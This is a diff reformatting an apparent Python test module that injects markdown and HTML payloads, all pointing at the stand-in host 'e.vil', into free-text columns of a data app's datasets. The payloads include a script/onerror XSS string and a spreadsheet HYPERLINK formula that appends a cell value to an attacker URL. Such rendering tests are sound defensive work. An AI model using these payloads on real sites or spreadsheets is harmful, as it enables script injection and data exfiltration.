@@ -13,30 +13,85 @@ from tests.datacopy import sign
 # Every address in a payload is on this host, so a page or request that used one is easy to find.
 HOSTILE_HOST = "e.vil"
 PAYLOADS = {
-    "image": "![x](http://e.vil/image.png)", "link": "[text](http://e.vil/link)", "autolink": "<http://e.vil/auto>",
-    "bare address": "see http://e.vil/bare", "bare www": "www.e.vil/www", "e-mail": "x@e.vil.com",
-    "colour": ":red[red] :blue-background[b]", "icon": ":material/home:", "emoji": ":smile:",
-    "logo": ":streamlit:", "latex": "$x^2$ and $$y$$", "heading": "# Head", "table": "| a | b |\n|---|---|\n| 1 | 2 |",
-    "quote": "> quoted", "emphasis": "*em* _u_ **b** ~~s~~", "code": "`code`", "entity": "&amp; &lt;b&gt; &#58;",
-    "html": '<img src="http://e.vil/html.png" onerror=alert(1)><script>alert(2)</script>', "list": "- item\n1. one",
-    "arrows": "a -> b <- c <-> d -- e >= f <= g ~= h", "rule": "***", "reference": "[a]: http://e.vil/ref",
+    "image": "![x](http://e.vil/image.png)",
+    "link": "[text](http://e.vil/link)",
+    "autolink": "<http://e.vil/auto>",
+    "bare address": "see http://e.vil/bare",
+    "bare www": "www.e.vil/www",
+    "e-mail": "x@e.vil.com",
+    "colour": ":red[red] :blue-background[b]",
+    "icon": ":material/home:",
+    "emoji": ":smile:",
+    "logo": ":streamlit:",
+    "latex": "$x^2$ and $$y$$",
+    "heading": "# Head",
+    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
+    "quote": "> quoted",
+    "emphasis": "*em* _u_ **b** ~~s~~",
+    "code": "`code`",
+    "entity": "&amp; &lt;b&gt; &#58;",
+    "html": '<img src="http://e.vil/html.png" onerror=alert(1)><script>alert(2)</script>',
+    "list": "- item\n1. one",
+    "arrows": "a -> b <- c <-> d -- e >= f <= g ~= h",
+    "rule": "***",
+    "reference": "[a]: http://e.vil/ref",
     "formula": '=HYPERLINK("http://e.vil/f"&A1,"x")',
 }
 # Columns that are codes, keys or numbers-as-text: the app looks them up, so a payload there is a broken file
 # (which the schemas or the pages reject), not hostile text to show.
-CODE_COLUMNS = {"fips", "state_fips", "county_fips", "all_county_fips", "state_abbr", "ori", "data_year", "model",
-                "agency_type", "status", "indicator", "effect", "basis", "review_status", "value", "scope",
-                "agreement_id", "facility_id", "fiscal_year", "contract_type", "jail_operator", "runs_county_jails",
-                "listed_on", "list_date", "first_seen", "last_seen", "signed", "effective_date", "source_date",
-                "as_of", "in_force", "has_shape", "kind", "method", "match_method", "detloc", "fbi_agency_type",
-                "placed_by"}
+CODE_COLUMNS = {
+    "fips",
+    "state_fips",
+    "county_fips",
+    "all_county_fips",
+    "state_abbr",
+    "ori",
+    "data_year",
+    "model",
+    "agency_type",
+    "status",
+    "indicator",
+    "effect",
+    "basis",
+    "review_status",
+    "value",
+    "scope",
+    "agreement_id",
+    "facility_id",
+    "fiscal_year",
+    "contract_type",
+    "jail_operator",
+    "runs_county_jails",
+    "listed_on",
+    "list_date",
+    "first_seen",
+    "last_seen",
+    "signed",
+    "effective_date",
+    "source_date",
+    "as_of",
+    "in_force",
+    "has_shape",
+    "kind",
+    "method",
+    "match_method",
+    "detloc",
+    "fbi_agency_type",
+    "placed_by",
+}
 
 
 def free_text_columns(dataset: datasets.Dataset) -> list[str]:
     """Text columns with no declared format, which are not codes, keys, dates or links."""
-    return [name for name, column in dataset.schema.columns.items()
-            if str(column.dtype).startswith("str") and not column.checks and not column.unique
-            and name not in CODE_COLUMNS and not name.endswith(("_fips", "_id", "_date", "url"))]
+    return [
+        name
+        for name, column in dataset.schema.columns.items()
+        if str(column.dtype).startswith("str")
+        and not column.checks
+        and not column.unique
+        and name not in CODE_COLUMNS
+        and not name.endswith(("_fips", "_id", "_date", "url"))
+    ]
 
 
 ALL_PAYLOADS = "\n".join(PAYLOADS.values())
